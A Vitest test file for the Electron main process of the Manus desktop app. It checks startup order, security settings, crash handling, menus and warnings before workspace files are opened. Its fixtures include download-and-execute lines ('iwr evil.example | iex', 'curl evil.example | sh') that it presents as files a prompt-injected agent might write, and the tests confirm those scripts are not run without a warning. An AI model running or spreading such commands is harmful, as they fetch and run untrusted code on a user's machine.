import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { openStore } from '../../src/main/store/store.js';
import { IPC_INVOKE_CHANNEL } from '../../src/shared/contract/names.js';
import { StubbedMain, buildMainProcess, type StubCall, type StubbedMainOptions } from './stub/stubbed-main.js';

/**
 * The desktop app's main process as built (out/main/index.js), run under Node with `electron` mapped to the recording
 * stand-in in ./stub: what it calls, in what order, and what it does with the events Electron would send.
 */

const running: StubbedMain[] = [];
const folders: string[] = [];

beforeAll(() => buildMainProcess(), 120_000);

afterEach(async () => {
  await Promise.all(running.splice(0).map((main) => main.stop()));
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

function dataFolder(): string {
  const folder = mkdtempSync(join(tmpdir(), 'manus-stubbed-main-'));
  folders.push(folder);
  return folder;
}

function start(options: Partial<StubbedMainOptions> = {}): StubbedMain {
  const main = new StubbedMain({ dataDir: options.dataDir ?? dataFolder(), ...options });
  running.push(main);
  return main;
}

/** the app fully started: its window created and loading */
async function started(main: StubbedMain): Promise<string> {
  await main.waitForCall('window.loadURL');
  return main.mainWindow();
}

const named = (name: string) => (entry: StubCall) => entry.call === name;

/** Saves an API key through the app's IPC handler, as the settings page does: the secret store is needed now. */
async function saveApiKey(main: StubbedMain, window: string): Promise<void> {
  const current = (await main.command('invoke', {
    channel: IPC_INVOKE_CHANNEL,
    window,
    args: ['getSettings', {}],
  })) as {
    ok: boolean;
    value: Record<string, unknown>;
  };
  expect(current.ok).toBe(true);
  const settings = { ...current.value, llms: { main: { model: 'stub-model', apiKey: 'sk-stub' } }, defaultLlm: 'main' };
  const saved = (await main.command('invoke', {
    channel: IPC_INVOKE_CHANNEL,
    window,
    args: ['updateSettings', { settings }],
  })) as { ok: boolean };
  expect(saved).toMatchObject({ ok: true });
}
const desktopLogOf = (dataDir: string) => readFileSync(join(dataDir, 'logs', 'desktop.log'), 'utf8');

describe('the desktop main process starting', () => {
  it('takes the single-instance lock, places the Chromium profile under the data folder before ready, then opens a hidden window', async () => {
    const dataDir = dataFolder();
    const main = start({ dataDir });
    const window = await started(main);
    const order = ['app.requestSingleInstanceLock', 'app.setPath', 'app.ready', 'new BrowserWindow'];
    expect(order.map((name) => main.indexOf(name))).toEqual(
      [...order.map((name) => main.indexOf(name))].sort((a, b) => a - b),
    );
    expect(main.callsTo('app.setPath').map((entry) => entry.args)).toEqual([
      ['userData', join(dataDir, 'chromium-profile')],
      ['sessionData', join(dataDir, 'chromium-profile')],
    ]);
    expect(main.callsTo('new BrowserWindow')[0].args[1]).toMatchObject({
      show: false,
      webPreferences: { contextIsolation: true, sandbox: true, nodeIntegration: false },
    });
    await main.command('emitWindow', { window, event: 'ready-to-show' });
    await main.waitForCall('window.show');
  });

  it('a second launch quits at once without opening the database or a window', async () => {
    const dataDir = dataFolder();
    const main = start({ dataDir, env: { ELECTRON_STUB_SECOND_INSTANCE: '1' } });
    expect(await main.exited).toBe(0);
    expect(main.callsTo('app.quit')).toHaveLength(1);
    expect(main.callsTo('new BrowserWindow')).toHaveLength(0);
    expect(existsSync(join(dataDir, 'manus.db'))).toBe(false);
  });

  it('reads no keychain before the window shows; the secrets open when first needed', async () => {
    const main = start({ env: { MANUS_NO_KEYCHAIN: undefined, DBUS_SESSION_BUS_ADDRESS: 'unix:path=/stub' } });
    const window = await started(main);
    const keychainCalls = () => main.calls.filter((entry) => /^(keyring|safeStorage)\./.test(entry.call));
    expect(keychainCalls()).toEqual([]);
    await main.command('emitWindow', { window, event: 'ready-to-show' });
    await main.waitForCall('window.show');
    expect(keychainCalls()).toEqual([]);
    // a request that saves a key opens the secret store: the keychain is asked only now, the window shown
    await saveApiKey(main, window);
    await main.waitFor((calls) => calls.find((entry) => entry.call.startsWith('keyring.')));
    expect(main.calls.findIndex((entry) => entry.call.startsWith('keyring.'))).toBeGreaterThan(
      main.calls.findIndex(named('window.show')),
    );
  });

  it('starts with the key file when the keychain binding has no native package for this CPU', async () => {
    const dataDir = dataFolder();
    const main = start({
      dataDir,
      env: {
        MANUS_NO_KEYCHAIN: undefined,
        DBUS_SESSION_BUS_ADDRESS: 'unix:path=/stub',
        ELECTRON_STUB_KEYRING: 'missing',
      },
    });
    const window = await started(main);
    await saveApiKey(main, window);
    expect(existsSync(join(dataDir, 'secret.key'))).toBe(true);
  });
});

describe('the page the window loads', () => {
  const devServer = 'http://localhost:5173/';

  it('obeys ELECTRON_RENDERER_URL (the dev server, with its nonce policy) only when not packaged', async () => {
    const dev = start({ env: { ELECTRON_RENDERER_URL: devServer, MANUS_DEV_CSP_NONCE: 'c3R1Yi1ub25jZS0xMjM0NTY' } });
    await started(dev);
    expect(dev.callsTo('window.loadURL')[0].args[1]).toBe(devServer);
    const devHeaders = (await dev.command('responseHeaders', { url: devServer })) as {
      responseHeaders: Record<string, string[]>;
    };
    expect(devHeaders.responseHeaders['Content-Security-Policy'][0]).toContain(
      "script-src 'self' 'nonce-c3R1Yi1ub25jZS0xMjM0NTY'",
    );

    const packaged = start({ packaged: true, env: { ELECTRON_RENDERER_URL: 'https://attacker.example/' } });
    await started(packaged);
    expect(packaged.callsTo('window.loadURL')[0].args[1]).toMatch(/^file:\/\/.*\/out\/renderer\/index\.html$/);
    const headers = (await packaged.command('responseHeaders', { url: 'file:///x' })) as {
      responseHeaders: Record<string, string[]>;
    };
    expect(headers.responseHeaders['Content-Security-Policy'][0]).not.toContain('nonce-');
    expect(headers.responseHeaders['Content-Security-Policy'][0]).toMatch(/script-src 'self'( 'sha256-[^']+')*;/);
  });
});

describe('the window when its page dies or hangs', () => {
  it('reloads a page that ran out of memory, logs it and tells the person; stops reloading a page that keeps dying', async () => {
    const dataDir = dataFolder();
    const main = start({ dataDir });
    const window = await started(main);
    const gone = (reason: string) =>
      main.command('emitWebContents', { window, event: 'render-process-gone', args: [{ reason, exitCode: 9 }] });
    await gone('oom');
    expect(main.callsTo('webContents.reload')).toHaveLength(1);
    expect(main.callsTo('dialog.showMessageBox').at(-1)!.args[1]).toMatchObject({
      message: 'The window stopped and was reloaded.',
      detail: expect.stringContaining('out of memory'),
    });
    expect(desktopLogOf(dataDir)).toContain("the window's page ended: oom (exit code 9)");
    // a page that ends on its own (the window closing) is left alone
    await gone('clean-exit');
    expect(main.callsTo('webContents.reload')).toHaveLength(1);
    await gone('crashed');
    await gone('crashed');
    await gone('crashed');
    expect(main.callsTo('webContents.reload')).toHaveLength(3);
    expect(main.callsTo('dialog.showErrorBox').at(-1)!.args[0]).toBe('Manus: the window keeps stopping');
  });

  it('offers to reload a window that stops responding, and reloads it when asked', async () => {
    const main = start();
    const window = await started(main);
    await main.command('answerMessageBox', { response: 1 });
    await main.command('emitWindow', { window, event: 'unresponsive' });
    await main.waitForCall('webContents.reload');
    expect(main.callsTo('dialog.showMessageBox').at(-1)!.args[1]).toMatchObject({ buttons: ['Wait', 'Reload'] });
    expect(main.indexOf('webContents.forcefullyCrashRenderer')).toBeGreaterThan(-1);
  });

  it('logs a helper process that died', async () => {
    const dataDir = dataFolder();
    const main = start({ dataDir });
    await started(main);
    await main.command('emitApp', {
      event: 'child-process-gone',
      args: [{ type: 'GPU', reason: 'crashed', exitCode: 139, name: 'GPU' }],
    });
    expect(desktopLogOf(dataDir)).toContain('a helper process ended: GPU (GPU), crashed, exit code 139');
  });
});

describe('quitting', () => {
  it('hides the window, cleans up, then exits; a second Quit meanwhile waits for the same cleanup', async () => {
    const dataDir = dataFolder();
    const main = start({ dataDir });
    const window = await started(main);
    await main.command('quitTwice');
    expect(await main.exited).toBe(0);
    const hidden = main.calls.findIndex((entry) => entry.call === 'window.hide' && entry.args[0] === window);
    expect(hidden).toBeGreaterThan(-1);
    expect(main.callsTo('app.exit')).toEqual([{ call: 'app.exit', args: [0] }]);
    // the store was closed by the cleanup: its write-ahead log is folded back into manus.db
    expect(existsSync(join(dataDir, 'manus.db-wal'))).toBe(false);
    expect(desktopLogOf(dataDir)).toContain('quit asked again while cleaning up');
  });

  it('closing the window with nothing running quits without a question (Linux)', async () => {
    const main = start();
    const window = await started(main);
    await main.command('closeWindow', { window });
    expect(await main.exited).toBe(0);
    expect(main.callsTo('dialog.showMessageBox')).toHaveLength(0);
  });
});

describe('the menus', () => {
  type MenuItem = { label?: string; role?: string; submenu?: MenuItem[] };
  const roles = (items: MenuItem[]): string[] =>
    items.flatMap((item) => [...(item.role ? [item.role] : []), ...roles(item.submenu ?? [])]);

  it('offers the developer tools in the View menu of a development run only', async () => {
    const dev = start();
    await started(dev);
    const devMenu = dev.callsTo('Menu.setApplicationMenu')[0].args[0] as MenuItem[];
    expect(roles(devMenu)).toContain('toggleDevTools');
    const packaged = start({ packaged: true });
    await started(packaged);
    const menu = packaged.callsTo('Menu.setApplicationMenu')[0].args[0] as MenuItem[];
    expect(roles(menu)).not.toContain('toggleDevTools');
    expect(roles(menu)).toEqual(expect.arrayContaining(['reload', 'zoomIn', 'togglefullscreen', 'editMenu']));
  });

  it('shows cut, copy, paste and select all on a right-click, with spelling suggestions for a misspelled word', async () => {
    const main = start();
    const window = await started(main);
    const editFlags = { canCut: true, canCopy: true, canPaste: true, canSelectAll: true };
    await main.command('emitWebContents', {
      window,
      event: 'context-menu',
      args: [
        {
          isEditable: true,
          selectionText: '',
          misspelledWord: 'recieve',
          dictionarySuggestions: ['receive', 'relieve'],
          spellcheckEnabled: true,
          editFlags,
        },
      ],
    });
    const [items] = main.callsTo('menu.popup').at(-1)!.args as [MenuItem[]];
    expect(items.map((item) => item.label ?? item.role)).toEqual([
      'receive',
      'relieve',
      'Add to Dictionary',
      undefined,
      'Download Spelling Dictionaries',
      undefined,
      'cut',
      'copy',
      'paste',
      undefined,
      'selectAll',
    ]);
    await main.command('clickPopupItem', { label: 'receive' });
    expect(main.callsTo('webContents.replaceMisspelling').at(-1)!.args[1]).toBe('receive');
  });

  it('fetches no spelling dictionary until the person allows it, and remembers the choice', async () => {
    const dataDir = dataFolder();
    const first = start({ dataDir });
    const window = await started(first);
    expect(first.callsTo('session.setSpellCheckerDictionaryDownloadURL').map((entry) => entry.args[0])).toEqual([
      'http://127.0.0.1:9/',
    ]);
    await first.command('emitWebContents', {
      window,
      event: 'context-menu',
      args: [
        {
          isEditable: true,
          selectionText: '',
          misspelledWord: '',
          dictionarySuggestions: [],
          spellcheckEnabled: true,
          editFlags: {},
        },
      ],
    });
    await first.command('clickPopupItem', { label: 'Download Spelling Dictionaries' });
    expect(first.callsTo('session.setSpellCheckerDictionaryDownloadURL').at(-1)!.args[0]).toMatch(/^https:\/\//);
    await first.stop();
    const again = start({ dataDir });
    await started(again);
    expect(again.callsTo('session.setSpellCheckerDictionaryDownloadURL').map((entry) => entry.args[0])).toEqual([
      'https://redirector.gvt1.com/edgedl/chrome/dict/',
    ]);
  });
});

describe('"Open in system" from the workspace panel', () => {
  /** a data folder holding one session whose workspace has what a prompt-injected agent might write */
  function workspaceWithAgentFiles(): { dataDir: string; workspace: string } {
    const dataDir = dataFolder();
    const workspace = join(dataDir, 'workspace');
    mkdirSync(workspace, { recursive: true });
    writeFileSync(join(workspace, 'x.bat'), 'powershell -c "iwr evil.example | iex"\r\n');
    writeFileSync(join(workspace, 'install'), '#!/bin/sh\ncurl evil.example | sh\n');
    chmodSync(join(workspace, 'install'), 0o755);
    writeFileSync(join(workspace, 'report.pdf'), '%PDF-1.4\n');
    const store = openStore(dataDir);
    store.createSession({ id: 's1', title: 'Agent files', mode: 'agent', model: 'm', workspace, status: 'finished' });
    store.close();
    return { dataDir, workspace };
  }

  const open = (main: StubbedMain, window: string, path: string) =>
    main.command('invoke', {
      channel: IPC_INVOKE_CHANNEL,
      window,
      args: ['openWorkspaceFile', { sessionId: 's1', path }],
    });

  it('shows a script in its folder after a warning instead of running it; a document opens', async () => {
    const { dataDir, workspace } = workspaceWithAgentFiles();
    const main = start({ dataDir });
    const window = await started(main);

    await main.command('answerMessageBox', { response: 0 });
    expect(await open(main, window, 'x.bat')).toMatchObject({ ok: true });
    expect(main.callsTo('dialog.showMessageBox').at(-1)!.args[1]).toMatchObject({
      type: 'warning',
      message: expect.stringContaining('"x.bat" is a program or script'),
      buttons: ['Show in Folder', 'Open Anyway', 'Cancel'],
    });
    expect(main.callsTo('shell.showItemInFolder').map((entry) => entry.args[0])).toEqual([join(workspace, 'x.bat')]);

    // an executable without a telling name, cancelled: nothing at all is opened
    await main.command('answerMessageBox', { response: 2 });
    await open(main, window, 'install');
    expect(main.callsTo('shell.openPath')).toEqual([]);

    expect(await open(main, window, 'report.pdf')).toMatchObject({ ok: true });
    expect(main.callsTo('shell.openPath').map((entry) => entry.args[0])).toEqual([join(workspace, 'report.pdf')]);
    expect(main.callsTo('dialog.showMessageBox')).toHaveLength(2);
  });

  it('opens a script only when the person chooses "Open Anyway"', async () => {
    const { dataDir, workspace } = workspaceWithAgentFiles();
    const main = start({ dataDir });
    const window = await started(main);
    await main.command('answerMessageBox', { response: 1 });
    await open(main, window, 'x.bat');
    expect(main.callsTo('shell.openPath').map((entry) => entry.args[0])).toEqual([join(workspace, 'x.bat')]);
  });
});
